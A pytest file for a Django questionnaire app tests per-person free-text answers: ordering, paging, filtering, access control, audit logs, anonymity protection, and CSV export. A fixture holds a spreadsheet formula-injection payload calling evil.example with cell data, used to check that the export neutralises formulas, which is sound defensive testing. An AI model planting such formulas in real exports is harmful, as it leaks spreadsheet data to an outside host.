"""The answers to a text question, one by one: only for an identified questionnaire, only
to those who manage it, newest first, 50 a page, filtered, downloadable, and audited; an
anonymous questionnaire's free text is never shown per person, on any page or in the API."""

import csv
import io
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest
from django.test import Client
from django.utils import translation

from guild.accounts.models import Role, RoleAssignment
from guild.accounts.tests.factories import UserFactory
from guild.core.models import AuditEvent
from guild.questionnaires.models import Questionnaire, QuestionnaireVersion, Response
from guild.questionnaires.results.open_text import (
    access_open_text,
    open_text_answers,
    open_text_page,
)
from guild.questionnaires.tests.results_data import (
    add_responses,
    published_snapshot,
    results_questionnaire,
)

START = datetime(2026, 11, 2, 9, 30, tzinfo=UTC)
PAYLOAD = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
NOTICE = (
    "This questionnaire is anonymous: the answers to this question are never shown one by "
    "one, to anyone, because a person\u2019s own words can tell who wrote them. Only how many "
    "people answered is published."
)
SECRET = "Only my manager Zoë knows I applied in Gatineau"


def _answer(questionnaire: Questionnaire, user: Any, comment: object, *, minutes: int) -> None:
    """An identified response, as the submit service stores it, answered `minutes` after
    START (the last change)."""
    version = QuestionnaireVersion.objects.get(questionnaire=questionnaire, number=1)
    answers: dict[str, object] = {"department": "esdc", "satisfied": "yes"}
    if comment is not None:
        answers["comment"] = comment
    when = START + timedelta(minutes=minutes)
    Response.objects.create(
        questionnaire=questionnaire,
        version=version,
        respondent=user,
        answers=answers,
        submitted_at=START,
        updated_at=when,
        snapshot=published_snapshot(questionnaire).number,
    )


@pytest.fixture
def identified(im: Any, make_member: Any) -> Questionnaire:
    questionnaire = results_questionnaire(im, anonymous=False, slug="pulse")
    people = [
        make_member(given_name="Ada", family_name="Lovelace"),
        make_member(given_name="Émile", family_name="Nelligan"),
        make_member(given_name="=cmd", family_name="Attacker"),
        make_member(given_name="Grace", family_name="Hopper"),
        make_member(given_name="Nil", family_name="Answer"),
    ]
    _answer(questionnaire, people[0].user, "More training on records, please.", minutes=1)
    _answer(questionnaire, people[1].user, "L'ÉQUIPE est formidable\nmerci", minutes=30)
    _answer(questionnaire, people[2].user, PAYLOAD, minutes=20)
    _answer(questionnaire, people[3].user, "-5", minutes=10)
    _answer(questionnaire, people[4].user, "", minutes=40)
    # An account without a member profile is named by its e-mail.
    _answer(questionnaire, UserFactory.create(email="link@example.gc.ca"), "Fine", minutes=5)
    return questionnaire


def _target(questionnaire: Questionnaire) -> Any:
    platform = UserFactory.create()
    RoleAssignment.objects.create(user=platform, role=Role.PLATFORM_ADMINISTRATOR)
    return access_open_text(platform, questionnaire.pk, "comment")


def _rows(questionnaire: Questionnaire, search: str = "") -> list[tuple[str, str, str]]:
    return [
        (a.respondent, a.text, a.answered_at.isoformat() if a.answered_at else "")
        for a in open_text_answers(_target(questionnaire), search=search)
    ]


# ---------------------------------------------------------------------------------------
# The selector


@pytest.mark.django_db
def test_answers_come_newest_first_with_names_leaving_out_empty_and_unnamed_ones(
    identified: Questionnaire,
) -> None:
    # A response with no respondent (as an anonymous one is stored) is never read here.
    add_responses(identified, [{"department": "esdc", "comment": "unnamed"}])
    assert _rows(identified) == [
        ("Émile Nelligan", "L'ÉQUIPE est formidable\nmerci", "2026-11-02T10:00:00+00:00"),
        ("=cmd Attacker", PAYLOAD, "2026-11-02T09:50:00+00:00"),
        ("Grace Hopper", "-5", "2026-11-02T09:40:00+00:00"),
        ("link@example.gc.ca", "Fine", "2026-11-02T09:35:00+00:00"),
        ("Ada Lovelace", "More training on records, please.", "2026-11-02T09:31:00+00:00"),
    ]


@pytest.mark.django_db
def test_the_filter_is_a_case_insensitive_contains_also_for_accented_letters(
    identified: Questionnaire,
) -> None:
    assert [r[0] for r in _rows(identified, "équipe")] == ["Émile Nelligan"]
    assert [r[0] for r in _rows(identified, "RECORDS")] == ["Ada Lovelace"]
    assert [r[0] for r in _rows(identified, "E")] == [
        "Émile Nelligan",
        "=cmd Attacker",
        "link@example.gc.ca",
        "Ada Lovelace",
    ]
    assert _rows(identified, "nowhere") == []


@pytest.mark.django_db
def test_pages_hold_fifty_answers_and_a_bad_page_number_shows_the_nearest_page(
    im: Any, make_member: Any
) -> None:
    questionnaire = results_questionnaire(im, anonymous=False)
    for minute in range(120):
        _answer(questionnaire, make_member().user, f"answer {minute:03}", minutes=minute)
    answers = open_text_answers(_target(questionnaire))
    first, third = open_text_page(answers, "1"), open_text_page(answers, "3")
    assert (first.number, first.num_pages, first.count) == (1, 3, 120)
    assert [a.text for a in first.items][:2] == ["answer 119", "answer 118"]
    assert len(first.items) == 50
    assert [a.text for a in third.items] == [f"answer {m:03}" for m in range(19, -1, -1)]
    assert open_text_page(answers, "x").number == 1
    assert open_text_page(answers, "99").number == 3
    assert open_text_page(answers, None).number == 1


# ---------------------------------------------------------------------------------------
# The page and the download: who, what, and the audit log


def _page_url(questionnaire: Questionnaire, code: str = "comment", tail: str = "") -> str:
    return f"/en/questionnaires/{questionnaire.pk}/results/text/{code}/{tail}"


def _audit(action: str) -> list[tuple[str, str, dict[str, Any]]]:
    return [
        (event.actor_label, event.object_id, event.changes)
        for event in AuditEvent.objects.filter(action=action).order_by("at", "pk")
    ]


@pytest.mark.django_db
def test_an_administrator_reads_a_page_filtered_and_the_read_is_audited(
    identified: Questionnaire, cast: dict[str, Any], login: Any
) -> None:
    admin = cast["admin"].user
    client = login(admin)
    page = client.get(_page_url(identified), {"q": "équipe"})
    assert page.status_code == 200
    html = page.content.decode()
    assert "Émile Nelligan" in html
    assert "L&#x27;ÉQUIPE est formidable<br>merci" in html
    assert "Ada Lovelace" not in html
    assert "1 answer contains “équipe”." in html
    assert (
        f'href="/en/questionnaires/{identified.pk}/results/text/comment/answers.csv?q=%C3%A9quipe"'
        in html
    )
    assert client.get(_page_url(identified), {"page": "7"}).status_code == 200
    odd = client.get(_page_url(identified), {"q": " Fi\x00ne " + "x" * 300, "page": "-1"})
    assert odd.status_code == 200
    assert _audit("questionnaire.open_text_read") == [
        (admin.email, str(identified.pk), {"question": "comment", "page": 1, "filter": "équipe"}),
        (admin.email, str(identified.pk), {"question": "comment", "page": 1, "filter": ""}),
        (
            admin.email,
            str(identified.pk),
            {"question": "comment", "page": 1, "filter": "Fine " + "x" * 195},
        ),
    ]


@pytest.mark.django_db
def test_the_download_is_every_filtered_answer_formula_neutralised_and_audited(
    identified: Questionnaire, cast: dict[str, Any], login: Any
) -> None:
    platform = cast["platform"]
    response = login(platform).get(_page_url(identified, tail="answers.csv"))
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="pulse-comment.csv"'
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8"))))
    assert rows == [
        ["Respondent", "Answered on (UTC)", "Answer"],
        ["Émile Nelligan", "2026-11-02T10:00:00+00:00", "L'ÉQUIPE est formidable\nmerci"],
        ["'=cmd Attacker", "2026-11-02T09:50:00+00:00", f"'{PAYLOAD}"],
        ["Grace Hopper", "2026-11-02T09:40:00+00:00", "-5"],
        ["link@example.gc.ca", "2026-11-02T09:35:00+00:00", "Fine"],
        ["Ada Lovelace", "2026-11-02T09:31:00+00:00", "More training on records, please."],
    ]
    filtered = login(platform).get(_page_url(identified, tail="answers.csv"), {"q": "FINE"})
    assert list(csv.reader(io.StringIO(filtered.content.decode("utf-8"))))[1:] == [
        ["link@example.gc.ca", "2026-11-02T09:35:00+00:00", "Fine"]
    ]
    assert _audit("questionnaire.open_text_export") == [
        (platform.email, str(identified.pk), {"question": "comment", "filter": "", "rows": 5}),
        (platform.email, str(identified.pk), {"question": "comment", "filter": "FINE", "rows": 1}),
    ]


@pytest.mark.django_db
def test_the_page_in_french(identified: Questionnaire, cast: dict[str, Any], login: Any) -> None:
    page = login(cast["admin"].user).get(_page_url(identified).replace("/en/", "/fr/"))
    assert page.status_code == 200
    assert "Émile Nelligan" in page.content.decode()


@pytest.mark.django_db
@pytest.mark.parametrize("who", ["member", "supervisor", "coordinator", "committee", "other"])
def test_no_one_but_its_managers_reads_the_answers(
    identified: Questionnaire, cast: dict[str, Any], login: Any, who: str
) -> None:
    client = login(cast[who].user)
    assert client.get(_page_url(identified)).status_code == 404
    assert client.get(_page_url(identified, tail="answers.csv")).status_code == 404
    assert AuditEvent.objects.filter(action__startswith="questionnaire.open_text").count() == 0


@pytest.mark.django_db
def test_signed_out_visitors_are_sent_to_sign_in(identified: Questionnaire) -> None:
    response = Client().get(_page_url(identified))
    assert response.status_code == 302
    assert response["Location"].startswith("/en/accounts/login/")


@pytest.mark.django_db
def test_an_administrator_of_another_community_gets_not_found(
    identified: Questionnaire, it_community: Any, login: Any
) -> None:
    outsider = UserFactory.create()
    RoleAssignment.objects.create(
        user=outsider, role=Role.PROGRAMME_ADMINISTRATOR, community=it_community
    )
    assert login(outsider).get(_page_url(identified)).status_code == 404


@pytest.mark.django_db
def test_tampered_ids_other_questions_and_anonymous_questionnaires_are_not_found(
    identified: Questionnaire, im: Any, cast: dict[str, Any], login: Any
) -> None:
    anonymous = results_questionnaire(im, anonymous=True)
    add_responses(anonymous, [{"department": "esdc", "comment": SECRET}], times=12)
    client = login(cast["platform"])
    missing = Questionnaire.objects.order_by("-pk").first().pk + 1  # type: ignore[union-attr]
    for url in (
        f"/en/questionnaires/{missing}/results/text/comment/",
        _page_url(identified, "satisfied"),  # not a text question
        _page_url(identified, "hours"),
        _page_url(identified, "no_such_question"),
        _page_url(anonymous),
        _page_url(anonymous, tail="answers.csv"),
    ):
        assert client.get(url).status_code == 404, url
    assert AuditEvent.objects.filter(action__startswith="questionnaire.open_text").count() == 0


@pytest.mark.django_db
def test_a_text_question_of_another_questionnaire_is_not_found(
    identified: Questionnaire, im: Any, cast: dict[str, Any], login: Any
) -> None:
    other = results_questionnaire(im, anonymous=False)
    version = QuestionnaireVersion.objects.get(questionnaire=other)
    data = dict(version.definition)
    # The other questionnaire's only text question has a code this one does not have.
    text = data["sections"][0]["questions"][-1]
    assert text["type"] == "text"
    text["code"] = "elsewhere"
    QuestionnaireVersion.objects.filter(pk=version.pk).update(definition=data)
    client = login(cast["admin"].user)
    assert client.get(_page_url(other, "elsewhere")).status_code == 200
    assert client.get(_page_url(identified, "elsewhere")).status_code == 404


# ---------------------------------------------------------------------------------------
# Links, and what an anonymous questionnaire shows of its free text


@pytest.mark.django_db
def test_managers_find_the_link_on_the_manage_page_and_beside_the_question_in_results(
    identified: Questionnaire, cast: dict[str, Any], login: Any
) -> None:
    add_responses(identified, [{"department": "esdc", "satisfied": "yes"}], times=10)
    link = f'href="/en/questionnaires/{identified.pk}/results/text/comment/">Read the answers'
    admin = login(cast["admin"].user)
    assert (
        admin.get(f"/en/questionnaires/manage/{identified.pk}/").content.decode().count(link) == 1
    )
    assert (
        admin.get(f"/en/questionnaires/{identified.pk}/results/").content.decode().count(link) == 1
    )
    committee = login(cast["committee"].user).get(f"/en/questionnaires/{identified.pk}/results/")
    assert committee.status_code == 200
    html = committee.content.decode()
    assert "Read the answers" not in html
    assert "Free-text answers are not published; only how many people answered." in html


@pytest.mark.django_db
def test_an_anonymous_questionnaire_says_why_its_text_is_never_shown_and_shows_none(
    im: Any, cast: dict[str, Any], login: Any
) -> None:
    anonymous = results_questionnaire(im, anonymous=True)
    add_responses(anonymous, [{"department": "esdc", "comment": SECRET}], times=12)
    with translation.override("fr"):
        french = translation.gettext(NOTICE)
    notice = {"en": NOTICE, "fr": french}
    for who in ("admin", "committee", "member"):
        client = login(cast[who].user)
        for language in ("en", "fr"):
            page = client.get(f"/{language}/questionnaires/{anonymous.pk}/results/")
            html = page.content.decode()
            assert page.status_code == 200
            assert notice[language] in html, (who, language)
            assert SECRET not in html
            assert "/results/text/" not in html
    manage = login(cast["admin"].user).get(f"/en/questionnaires/manage/{anonymous.pk}/")
    assert "Read the answers" not in manage.content.decode()
    api = login(cast["admin"].user).get(f"/api/v1/questionnaires/{anonymous.pk}/statistics")
    assert SECRET not in api.content.decode()
    comment = next(q for q in api.json()["questions"] if q["code"] == "comment")
    # The only fields a text question has in the API: no answer can travel in them.
    assert {k: v for k, v in comment.items() if k != "label"} == {
        "code": "comment",
        "type": "text",
        "n": 12,
        "mean": None,
        "median": None,
        "mean_ranks": [],
        "blocks": [],
    }
